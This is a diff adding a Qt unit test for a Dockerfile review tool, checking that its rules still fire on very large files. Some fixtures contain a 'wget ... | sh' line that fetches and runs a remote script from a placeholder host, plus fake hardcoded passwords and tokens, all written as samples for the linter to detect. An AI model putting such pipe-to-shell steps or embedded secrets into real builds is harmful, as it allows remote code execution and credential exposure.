@@ -111,6 +111,8 @@ private slots:
     void buildStagesGetTheBuildRulesNamedByStage();
     void parseErrorFillsOnlyTheError();
     void dockerfileChecksHaveTheirTexts();
+    void filesAtTheInstructionLimitAreReviewed_data();
+    void filesAtTheInstructionLimitAreReviewed();
 };
 
 void TestDockerfileReview::corpusFindingsMatchExpected_data()
@@ -311,6 +313,39 @@ void TestDockerfileReview::dockerfileChecksHaveTheirTexts()
         QVERIFY(!info.title.empty() && !info.rationale.empty() && !info.fix.empty());
     }
     QCOMPARE(ids.size(), std::size_t(5));
+}
+
+void TestDockerfileReview::filesAtTheInstructionLimitAreReviewed_data()
+{
+    QTest::addColumn<QString>("repeated");
+    QTest::addColumn<int>("count");
+    QTest::addColumn<QString>("rule");
+    QTest::newRow("five thousand stages, each built on the one before")
+        << "FROM s%1 AS s%2\nRUN wget -qO- https://x.example/i | sh\n"
+        << 5000 << "IMG-015";
+    QTest::newRow("ten thousand ENV lines, each a secret") << "ENV DB_PASSWORD_%1=Zx8qPl2mVn5rTs9w%2\n"
+                                                           << 10000 << "SEC-002";
+    QTest::newRow("five thousand EXPOSE lines between apt-get lines")
+        << "EXPOSE %1\nRUN apt-get install -y gcc-%2\n"
+        << 5000 << "IMG-010";
+    QTest::newRow("five thousand independent stages with a secret each")
+        << "FROM alpine:%1 AS s%2\nENV TOKEN=ghp_0123456789abcdefghijABCDEFGHIJ012345\n"
+        << 5000 << "SEC-002";
+}
+
+void TestDockerfileReview::filesAtTheInstructionLimitAreReviewed()
+{
+    QFETCH(QString, repeated);
+    QFETCH(int, count);
+    QFETCH(QString, rule);
+    QString text = QStringLiteral("FROM alpine:3.19 AS s0\n");
+    for (int i = 0; i < count; ++i) {
+        text += repeated.arg(i).arg(i + 1);
+    }
+    const FileReview review = reviewDockerfile("Dockerfile", text.toStdString());
+    QVERIFY2(!review.error, review.error ? review.error->message.c_str() : "");
+    QVERIFY(std::any_of(review.findings.begin(), review.findings.end(),
+                        [&](const Finding& f) { return f.ruleId == rule.toStdString(); }));
 }
 
 QTEST_APPLESS_MAIN(TestDockerfileReview)
